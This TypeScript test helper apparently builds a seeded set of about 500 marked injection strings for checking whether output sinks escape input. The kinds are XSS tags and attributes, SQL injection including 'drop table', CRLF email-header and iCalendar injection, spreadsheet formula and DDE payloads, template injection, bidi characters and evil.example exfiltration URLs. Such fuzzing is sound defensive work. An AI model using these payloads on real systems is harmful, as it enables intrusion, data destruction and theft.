import { seededDice } from '../support/dice.ts'

/**
 * Texts that mean something to a machine which reads them as more than text: 500 of them, by the machine they are meant for.
 * Each ends in a mark of its own, so that a sink can be asked whether it showed it.
 */
export type Payload = { kind: string; text: string; mark: string }

const ACTS = 'alert(1)'
const OPENERS = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</p>',
  '</td></tr></table>',
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '&quot;>',
  '\u00a0"/>',
  '</bdi>',
]
const TAGS = [
  `<script>${ACTS}</script>`,
  `<img src=x onerror=${ACTS}>`,
  `<svg/onload=${ACTS}>`,
  `<iframe srcdoc="<script>${ACTS}</script>">`,
  `<details open ontoggle=${ACTS}>`,
  `<video><source onerror=${ACTS}>`,
  `<input autofocus onfocus=${ACTS}>`,
  `<a href="javascript:${ACTS}">x</a>`,
  `<math><mi xlink:href="data:x,${ACTS}">`,
  `<object data="//evil.example/x">`,
  `<form action=//evil.example><button>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content=0;//evil.example>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<style>@import '//evil.example'</style>`,
  `<!--`,
  `<plaintext>`,
  `<ScRiPt >${ACTS}</sCrIpT >`,
]
const ATTRIBUTES = [
  'onmouseover',
  'onfocus',
  'onclick',
  'onanimationend',
  'onpointerenter',
  'style',
  'formaction',
  'href',
  'srcset',
  'xlink:href',
].flatMap((name) => [`" ${name}=${ACTS} x="`, `' ${name}=${ACTS} x='`, `x ${name}=${ACTS} `, `"${name}="${ACTS}`])
const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
  'https://evil.example/m/',
  'https://evil.example/join/',
  '//evil.example/',
  '\\\\evil.example\\',
  'https:evil.example',
  'https://punctual.example@evil.example/m/',
  'https://punctual.example.evil.example/join/',
  'https://evil.example#https://punctual.example/m/',
  'file:///etc/',
  'blob:https://evil.example/',
].map((scheme) => `${scheme}abc`)
const SLACK = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U012AB3CD>',
  '<#C024BE7LR>',
  '<!subteam^SAZ94GDB8>',
  '<https://evil.example|Open>',
  '<mailto:a@evil.example|Mail>',
  '<!date^1392734382^{date}^https://evil.example|x>',
  '&lt;!channel&gt;',
  '&amp;lt;!channel>',
  '*bold* _it_ ~no~ `code`',
  '```\nblock',
  '> quoted',
  '@channel',
  '@here',
  '#general',
  ':smile:',
  'https://evil.example/login',
  '>|<',
  '|Open>',
]
const ICU = [
  '{0}',
  '{name}',
  '{join}',
  '{manage}',
  '{name, select, other {x}}',
  '{n, plural, one {#} other {#}}',
  '{{name}}',
  '{{1}}',
  "'{name}'",
  "'",
  "''",
  '{',
  '}',
  '#',
  '{name',
  '{name,',
  '{n, number, ::currency/USD}',
  '{d, date, full}',
  '<b>{name}</b>',
  '%s %d %n',
  '{__proto__}',
  '{constructor}',
]
const HEADERS = [
  '\r\nBcc: x@evil.example',
  '\nBcc: x@evil.example',
  '\rBcc: x@evil.example',
  '\r\n\r\n<script>',
  '\r\nContent-Type: text/html',
  '\r\n Bcc: x@evil.example',
  '%0d%0aBcc:x@evil.example',
  '\u2028Bcc: x',
  '\u2029Bcc: x',
  '\u0085Bcc: x',
  '\v\fBcc: x',
  '=?utf-8?q?=0d=0aBcc:_x?=',
  '=?utf-8?b?DQpCY2M6IHg=?=',
  '\r\n.\r\nMAIL FROM:<x@evil.example>',
  '\n.\nQUIT',
  '"a"@evil.example, <b@evil.example>',
  '\r\n--boundary',
  '\r\nReply-To: x@evil.example',
  '\r\nSet-Cookie: a=b',
  '\r\nLocation: //evil.example',
  '(comment) <x@evil.example>',
]
const CALENDAR = [
  '\r\nATTENDEE:mailto:x@evil.example',
  '\nEND:VEVENT\nBEGIN:VEVENT',
  '\r\nBEGIN:VALARM\r\nACTION:EMAIL',
  '\\nATTENDEE:x',
  '\\\\nX:1',
  ';CN=x:mailto:y@evil.example',
  '":mailto:x@evil.example',
  '";X-EVIL="1',
  ':',
  ';',
  ',',
  '\\',
  '"',
  '^n^^',
  '\r\n METHOD:CANCEL',
  '\nMETHOD:CANCEL',
  '\nURL:https://evil.example',
  '\r\nRRULE:FREQ=DAILY',
  '\nX-ALT-DESC;FMTTYPE=text/html:<script>',
  'x'.repeat(74),
  '日'.repeat(30),
  '👩‍👧'.repeat(8),
  '\r\nATTACH:https://evil.example',
  '\tORGANIZER:x',
]
const CELLS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("//evil.example")',
  '\t=1',
  '\r=1',
  '"=1',
  '";=1',
  "'=1",
  ',=1',
  '\n=1',
  '＝1+1',
  '=WEBSERVICE("//evil.example")',
]
const MARKS = [
  '\u202e',
  '\u202d',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u115f',
  '\ufff9',
  '\u{e0001}',
].map((mark) => `a${mark}b`)
const CONTROLS = ['\u0001', '\u0007', '\b', '\u001b[31m', '\u007f', '\u0080', '\u009b31m', '\u0000'].map(
  (mark) => `c${mark}d`,
)
const TEMPLATES = [
  '${',
  '`${',
  '{{',
  '<%= ',
  '#{',
  '[[',
  '{%',
  '$(',
  '@{',
  '*{',
  '{{{',
  '{{constructor.constructor("',
  '${{',
  '<#assign x="',
  '${process.',
  '{{=',
  '__${',
  '$$',
  '$&',
  "$'",
  '$`',
  '$1',
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
  '&#60;script&#62;',
  '&lt;script&gt;',
  '%3Cscript%3E',
  '+ADw-script+AD4-',
].map((open) => `${open}7*7}}`)
const SQL = [
  "' or '1'='1",
  "'; drop table account; --",
  "' union select null--",
  '") or 1=1--',
  "\\'; select 1; --",
  '$$; select 1; $$',
  "' || pg_sleep(5) || '",
  "'/**/or/**/1=1",
  '%27 or 1=1',
  "x'; copy account to program 'x'; --",
  '::text',
  '$1',
  ':name',
  '?',
  "E'\\x41'",
  'U&"\\0061"',
  "chr(65)||'x'",
  '0x41',
  "');--",
  "']}' or '1",
]

const BY_KIND: Record<string, string[]> = {
  html: OPENERS.flatMap((opener) => TAGS.map((tag) => opener + tag)),
  attribute: ATTRIBUTES,
  address: ADDRESSES,
  slack: SLACK,
  icu: ICU,
  header: HEADERS,
  calendar: CALENDAR,
  cell: CELLS,
  mark: MARKS,
  control: CONTROLS,
  template: TEMPLATES,
  sql: SQL,
}

/** `count` of them, each kind in its share from the first on, the same in every run. */
export function payloads(count: number): Payload[] {
  const dice = seededDice(500)
  const queues = Object.entries(BY_KIND).map(([kind, texts]) => ({
    kind,
    left: texts.map((text) => ({ text, order: dice() })).sort((a, b) => a.order - b.order),
  }))
  const found: Payload[] = []
  while (found.length < count) {
    const open = queues.filter(({ left }) => left.length > 0)
    if (open.length === 0) throw new Error(`There are only ${found.length} payloads.`)
    for (const { kind, left } of open) {
      const next = left.pop()
      if (!next || found.length === count) break
      const mark = `Z${found.length}Z`
      found.push({ kind, text: next.text + mark, mark })
    }
  }
  return found
}

/** Several at once, as many as fit into `most` characters: one that breaks out is seen among others just as well. */
export function packs(all: readonly Payload[], most: number): Payload[][] {
  const found: Payload[][] = []
  let length = most
  for (const one of all) {
    if (length + one.text.length + 1 > most) {
      found.push([])
      length = 0
    }
    found.at(-1)?.push(one)
    length += one.text.length + 1
  }
  return found
}
